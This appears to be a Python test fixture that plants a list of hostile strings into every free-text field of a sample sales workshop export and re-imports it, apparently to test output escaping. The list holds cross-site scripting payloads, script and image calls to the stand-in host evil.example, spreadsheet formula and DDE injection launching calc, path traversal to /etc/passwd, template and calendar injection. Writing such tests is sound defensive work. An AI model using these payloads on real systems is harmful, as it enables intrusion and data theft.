"""Strings that act where they are not shown letter by letter, and a workshop that holds them in every free text."""

import json
import re
from collections.abc import Iterator
from itertools import count
from typing import Any

from db import transfer
from db.access import LOCAL
from salesops.immutable import Value
from salesops.transfer import Option
from salesops.transfer.file import PARTS, read
from tests.prepared import sample_firm

MARK = "zqx"  # every planted text has it, with a number of its own
FOREIGN = "evil.example"

CORPUS = (
    f"![p](http://{FOREIGN}/p.png)",
    f"[l](http://{FOREIGN}/l) [j](javascript:alert(1))",
    f"<http://{FOREIGN}/a> www.{FOREIGN}/w https://{FOREIGN}/h",
    f"<script>fetch('//{FOREIGN}')</script>",
    f"<img src=//{FOREIGN}/i onerror=alert(1)>",
    f'"><iframe src=//{FOREIGN}></iframe>',
    f"' onmouseover='alert(1)' <svg onload=alert(1)><a xlink:href=\"//{FOREIGN}\">",
    f"</style><link rel=stylesheet href=//{FOREIGN}/c></title><base href=//{FOREIGN}>",
    "$x^2$ $$\\int_0^1$$ \\(a\\)",
    ":material/delete: :red[red] :blue-background[b] :rocket: :streamlit:",
    "# Head\n- [ ] one\n> two\n```\nthree\n```\n| a | b |\n|---|---|",
    "**bold** _it_ ~~no~~ `code` &lt;b&gt; &#60;b&#62;",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'+HYPERLINK("http://{FOREIGN}","x")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    f'=IMPORTXML("http://{FOREIGN}","//a")',
    f'DDEAUTO c:\\\\x "http://{FOREIGN}"',
    "a ]]> b <![CDATA[ c & d < e > f \" g ' h",
    "control \x01\x08\x0b\x0c\x1f\x7f\x85 and \ufffe\uffff",
    '#import "x.typ" #sys.version @ref <label> $ #read("/etc/passwd") \\ // c /* d',
    "datum.x; {\"href\":\"http://evil.example\"} ${alert(1)} {{7*7}} {% x %}",
    "a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:http://evil.example;x=y,z\\n",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    '{"@context":"http://evil.example","a":1}</script>',
    "%00 ../../etc/passwd \\\\evil.example\\share",
    "click me\"];\nA-->B; classDef x fill:#f00; click A \"javascript:alert(1)\"",
    "測試 é \u0301\u0301\u0301 🚀👩‍👩‍👧 ﷽ ẞ İ",
    "x" * 90,
)  # fmt: skip

# Text columns of a workshop that hold no free text: ids, enums as text, periods, colours, formulas, what is computed.
CODED = re.compile(
    r"(^|_)ids?$|^(kind|setting|holidays_of|currency|time_zone|country|region|month|period|subject|about|firm_kind|digest|shows|seen|"
    r"accent|logo|link|formula|method|answers|unit|content_version|node|stage|role|language)$"
)
NO_TEXT = {
    ("metric_terms", "name"),
    ("topics", "source"),
    ("agenda_items", "source"),
    ("actions", "source"),
    ("decision_records", "source"),
    ("commitments", "owner"),
}


def texts(part: str, row: Any) -> Iterator[str]:
    """Yield the columns of a row that hold free text."""
    for column, about in type(row).model_fields.items():
        if about.annotation in (str, str | None) and not CODED.search(column) and (part, column) not in NO_TEXT:
            yield column


def planted(file: bytes) -> tuple[bytes, set[str]]:
    """Return a workshop's file with a hostile string in every free text of every row, and the columns that have one."""
    content, workshop, numbers, told = json.loads(file), read(file).workshop, count(1), set()

    def hostile(column: str) -> str:
        told.add(column)
        return f"{CORPUS[(n := next(numbers)) % len(CORPUS)]} {MARK}{n}"

    def words_in(value: Any, column: str) -> Any:
        """Answers of several cells: what has a space in it is somebody's words, ids have none."""
        if isinstance(value, dict):
            return {name: words_in(inner, column) for name, inner in value.items()}
        return hostile(column) if isinstance(value, str) and " " in value else value

    for part in PARTS:
        rows, written = getattr(workshop, part), content["workshop"][part]
        if isinstance(rows, Value):
            rows, written = (rows,), (written,)
        for row, values in zip(rows, written, strict=True) if isinstance(rows, tuple) else ():
            for column in texts(part, row):
                values[column] = hostile(f"{part}.{column}")
            if part == "answers":
                values["value"] = words_in(values["value"], "answers.value")
            if part == "own_questions":
                values["options"] = [hostile("own_questions.options") for _ in values["options"]]
    return json.dumps(content).encode(), told


def hostile_firm() -> str:
    """Return the id of the sample firm with every free text replaced by one that acts where it may."""
    made = sample_firm()
    file, _ = planted(transfer.export_workshop(made, LOCAL, include=set(Option)))
    return transfer.import_workshop(file, LOCAL)
